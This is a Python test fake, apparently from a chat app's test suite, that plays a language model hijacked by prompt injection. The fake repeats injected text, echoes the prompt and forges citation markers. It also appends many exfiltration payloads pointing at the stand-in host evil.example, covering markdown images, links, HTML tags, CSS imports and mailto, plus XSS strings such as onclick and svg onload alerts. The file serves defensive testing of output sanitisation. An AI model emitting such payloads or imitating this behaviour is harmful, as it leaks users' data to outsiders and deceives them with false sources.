"""Play a model that has fallen into the hands of whoever writes into documents: it obeys, and then does worse."""

import re
from collections.abc import Generator, Sequence
from dataclasses import dataclass
from threading import Event as Stop
from urllib.parse import quote

from app.types import ChatMessage
from tests.fakes import ScriptedModel

EVIL = "https://evil.example"
# Where a page could be made to fetch or to lead out; {loot} is what the model was given to read.
WAYS_OUT = (
    "![x](" + EVIL + "/a.png?q={loot})",
    "[more](" + EVIL + "/b?q={loot})",
    "[more][out]",
    "![x][out]",
    "<" + EVIL + "/c?q={loot}>",
    EVIL + "/d?q={loot}",
    "//evil.example/e.png?q={loot}",
    "www.evil.example/f?q={loot}",
    '<img src="' + EVIL + '/g.png?q={loot}">',
    "<a href='" + EVIL + "/h?q={loot}' onclick=alert(1)>more</a>",
    "[more](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[1](" + EVIL + "/i?q={loot})",
    "<style>@import '" + EVIL + "/j.css?q={loot}'</style>",
    "$\\href{{" + EVIL + "/k?q={loot}}}{{more}}$",
    "mailto:thief@evil.example?body={loot}",
)
DEFINITION = "\n\n[out]: " + EVIL + "/r.png?q={loot}\n[1]: " + EVIL + "/s\n\n"
# Marks in every way a number can be cited, of passages that were not read and of ones that do not exist.
FORGED = (
    "[9][97]", "[0]", "[1, 8, 99]", "[^7]", "[Source 42]", "【8†97】", "(passage 7)", "[7]", "[-1]", "[١]", "[000009]"
)  # fmt: skip
LOOT_CHARS = 60
COPIED = 8  # sentences that it copies, so that some of what it writes holds and is shown

_SENTENCE_END = re.compile(r"(?<=[.!?])\s+|\n+")


@dataclass
class CompromisedModel(ScriptedModel):
    """Obey what it is given: say `wanted`, repeat the prompt, lead out, forge citations; find that all answers."""

    wanted: tuple[str, ...] = ()  # what the instruction it found wants said

    def __post_init__(self) -> None:
        self.leans = lambda _: 9.0

    def stream(
        self, messages: Sequence[ChatMessage], *, max_tokens: int, cache_salt: str, stop: Stop
    ) -> Generator[str, None, None]:
        """Yield line by line whatever does harm; it minds no limit."""
        del max_tokens, cache_salt, stop
        self.asked.append(tuple(messages))
        yield from harmful("\n".join(message.content for message in messages), self.wanted).splitlines(
            keepends=True
        )


def harmful(given: str, wanted: Sequence[str]) -> str:
    """Return what the model says to a prompt."""
    loot = quote(given[-LOOT_CHARS:])
    copied = [one for one in _SENTENCE_END.split(given) if len(one.split()) > 3][:COPIED]
    led_out = (
        f"{sentence} {WAYS_OUT[place % len(WAYS_OUT)].format(loot=loot)} {FORGED[place % len(FORGED)]}"
        for place, sentence in enumerate(copied, len(given))  # another way first for each prompt
    )
    plainly_forged = (f"{sentence} {FORGED[place % len(FORGED)]}" for place, sentence in enumerate(copied))
    return "\n".join(
        (*wanted, *led_out, DEFINITION.format(loot=loot), *plainly_forged, given, "\u2028".join(WAYS_OUT))
    )
